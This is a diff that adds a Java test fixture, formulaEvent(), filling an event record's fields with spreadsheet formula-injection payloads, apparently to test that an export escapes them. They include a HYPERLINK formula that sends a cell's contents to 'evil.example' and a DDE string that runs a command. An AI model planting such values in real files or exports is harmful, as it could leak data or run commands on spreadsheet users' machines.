@@ -51,6 +51,34 @@ final class Fixtures {
         Optional.of("munitions"));
   }
 
+  /** An event whose URL, sentence and actor text are formulas a spreadsheet would run. */
+  static Event formulaEvent() {
+    Event e = event("e3", "PRK", "RUS", Modality.ASSERTED, Optional.of("2024-10-01"));
+    return new Event(
+        e.eventId(),
+        e.docId(),
+        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")",
+        e.published(),
+        e.sentenceIndex(),
+        "+cmd|' /C calc'!A0 said North Korea sent munitions to Russia.",
+        e.span(),
+        new EventActor("PRK", "@SUM(1+1)"),
+        new EventActor("XYZ", "\t=1+1"),
+        e.eventType(),
+        e.mode(),
+        e.cameo(),
+        e.quadClass(),
+        -7.5,
+        e.modality(),
+        Optional.of("-2+3"),
+        e.date(),
+        e.dateBasis(),
+        e.historical(),
+        e.pattern(),
+        e.confidence(),
+        Optional.of("\r=2"));
+  }
+
   static Event awkwardEvent() {
     return new Event(
         "ev,\"1\"",
